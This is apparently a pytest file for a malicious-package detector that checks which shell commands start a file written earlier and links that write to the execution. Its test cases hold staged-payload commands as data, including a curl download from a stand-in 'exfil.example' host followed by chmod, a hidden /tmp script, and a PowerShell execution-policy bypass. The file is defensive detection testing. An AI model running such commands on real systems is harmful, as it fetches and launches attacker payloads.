"""What counts as starting a file that was written before."""

import pytest

from packamal.capability import Capability
from packamal.detectors.linking import link_paths
from packamal.detectors.started import started
from packamal.model import Evidence, Flow, Origin, Role, Signal


def signal(capability: Capability, target: str) -> Signal:
    return Signal(capability, Role.IMPORT, Origin.STATIC, Evidence("a.tgz", "index.js", 1), target=target)


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("/tmp/.worker.sh", {".worker.sh"}),
        ("sh /tmp/.worker.sh", {"sh", ".worker.sh"}),
        ("sudo -E bash -x /tmp/a/run.sh now", {"sudo", "bash", "run.sh"}),
        ("curl -o /tmp/stage2 https://exfil.example && chmod 755 /tmp/stage2", {"curl", "chmod", "stage2"}),
        ("{sys.executable} {tempfile.mkdtemp}/stage.py", {"stage.py"}),
        (r'cmd /c start "C:\Users\Public\stage.exe"', {"cmd", "start", "stage.exe"}),
        ("powershell -ExecutionPolicy Bypass -File stage.ps1", {"powershell", "stage.ps1"}),
        ("openssl ocsp -issuer /tmp/certificate.pem", {"openssl"}),
        ("git add notes.txt", {"git"}),
    ],
)
def test_only_programs_and_scripts_are_started(command: str, names: set[str]) -> None:
    assert names <= started(command)
    assert not started(command) & {"certificate.pem", "notes.txt"}


def test_a_written_file_that_is_started_is_linked() -> None:
    signals = [signal(Capability.FILE_WRITE, "/tmp/stage.sh"), signal(Capability.PROC_SHELL, "bash /tmp/stage.sh")]
    assert list(link_paths(signals)) == [Flow(0, 1)]


def test_a_written_file_that_is_an_argument_is_not_linked() -> None:
    signals = [signal(Capability.FILE_WRITE, "out/notes.txt"), signal(Capability.PROC_EXEC, "git add out/notes.txt")]
    assert list(link_paths(signals)) == []


def test_a_name_inside_another_name_is_not_the_same_file() -> None:
    signals = [signal(Capability.FILE_WRITE, "dmypy"), signal(Capability.PROC_EXEC, "python -m mypy.dmypy")]
    assert list(link_paths(signals)) == []


def test_a_manifest_read_back_is_no_code() -> None:
    signals = [signal(Capability.FILE_WRITE, "x/package.json"), signal(Capability.CODE_IMPORT, "{dir}/package.json")]
    assert list(link_paths(signals)) == []


def test_a_page_that_is_opened_for_reading_is_no_program() -> None:
    signals = [signal(Capability.FILE_WRITE, "README.html"), signal(Capability.PROC_EXEC, "xdg-open README.html")]
    assert list(link_paths(signals)) == []
